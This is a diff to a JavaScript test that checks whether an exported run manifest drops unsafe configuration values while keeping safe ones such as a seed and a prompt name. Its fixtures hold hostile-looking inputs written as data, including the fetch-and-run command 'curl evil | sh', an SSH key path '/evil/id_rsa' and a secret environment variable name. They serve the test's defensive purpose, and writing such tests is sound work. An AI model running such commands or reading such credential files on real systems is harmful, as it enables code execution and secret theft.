@@ -87,6 +87,15 @@ describe('an exported run', () => {
         'run.notify': chosen('curl evil | sh'),
         'lean.path': chosen('/tmp/evil'),
         'lean.project': chosen('/tmp/evil'),
+        'sglang.url': chosen('http://evil'),
+        'sglang.encode_url': chosen('http://evil'),
+        'openai.api_key_file': chosen('/evil/id_rsa'),
+        'openai.api_key_env': chosen('EVIL_SECRET'),
+        'openai.max_in_flight': { value: 3, origin: '--set' },
+        'policy.record': chosen('/evil/appended'),
+        'policy.prompt': chosen('kimina'),
+        'script.file': chosen('/evil/file'),
+        'later.thing': chosen('/evil/unknown'),
         'search.seed': chosen('7'),
       },
     });
@@ -98,7 +107,9 @@ describe('an exported run', () => {
     const { manifest } = opened.run;
     expect(manifest.notify).toBe(null);
     expect(manifest.out).toBe(null);
-    expect(JSON.stringify(manifest.configuration)).not.toMatch(/evil/);
+    expect(JSON.stringify(manifest.configuration)).not.toMatch(/evil/i);
+    expect(manifest.configuration['policy.prompt']).toEqual(chosen('kimina'));
+    expect(manifest.configuration['openai.max_in_flight']).toEqual({ value: 3, origin: '--set' });
     expect(manifest.configuration['search.seed']).toEqual(chosen('7'));
   });
 });
